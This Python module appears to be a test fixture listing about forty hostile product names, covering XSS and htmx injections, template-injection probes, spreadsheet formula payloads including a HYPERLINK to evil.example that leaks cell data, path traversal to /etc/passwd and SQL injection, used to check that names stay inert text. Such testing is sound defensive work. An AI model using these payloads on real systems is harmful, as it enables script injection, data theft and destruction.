"""Forty names that nobody gives a product by accident. Each is one that may be kept: it is text, and has to stay text.

What would run, would set `window.__ran` or ask for an address that holds the word in CANARY.
"""

from typing import Final

CANARY: Final = "hostile-canary"
_RUN: Final = "window.__ran=1"

MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=/{CANARY} onerror={_RUN}>",
    f'"><svg onload="{_RUN}">',
    f"' autofocus onfocus='{_RUN}' x='",
    f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>Data 5 GB</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<style>body{{display:none;background:url(/{CANARY})}}</style>",
    "<!-- everything after this is a comment",
    "<plaintext>the rest of the page",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=/{CANARY}'>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"<math><mtext><img src=/{CANARY} onerror={_RUN}>",
)
HTMX: Final = (
    f"<b hx-get='/{CANARY}' hx-trigger='load'>Data</b>",
    f"<div hx-on:load='{_RUN}' data-hx-get='/{CANARY}' data-hx-trigger='load'></div>",
    f"<hx-partial hx-target='body'><p hx-get='/{CANARY}' hx-trigger='load'></p></hx-partial>",
    f'" hx-get="/{CANARY}" hx-trigger="load" x="',
    "<template hx type=partial hx-target='#main'>gone</template>",
)
TEMPLATES: Final = (
    "{{ 7*7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {#- comment -#}",
    "%(name)s %s %d {0} {name!r} %",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/"&A1,"Data")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
)
LETTERS: Final = (
    "Data \u202egnp.BG 5\u202c plan",
    "Sha\u200bred\u2060 da\ufeffta \u2066RLI\u2069",
    "بيانات 5 جيجابايت <b>شهري</b> (جديد)",
    "👨\u200d👩\u200d👧\u200d👦 family 🇸🇦 10 GB 🏳️\u200d🌈",
    "Z\u0310\u0311\u0312\u0313\u0314\u0351\u0352\u0357a\u0310\u0311\u0312\u0313l\u0351\u0352\u0357\u035bg\u0322\u0321\u0327o",
    "ＦＵＬＬ　ＷＩＤＴＨ ﬃ ǅ ℌ ①",
)
LENGTHS: Final = (
    "W" * 255,
    "Donaudampfschifffahrtsgesellschaftskapitän" * 6,
)
PLACES: Final = (
    "../../../../etc/passwd%00.png",
    "\\0 %00 &#0; \\u0000 NULL null undefined NaN",
    "'; DROP TABLE product; -- \\\" %' OR '1'='1",
)

HOSTILE_NAMES: Final[tuple[str, ...]] = (*MARKUP, *HTMX, *TEMPLATES, *FORMULAS, *LETTERS, *LENGTHS, *PLACES)
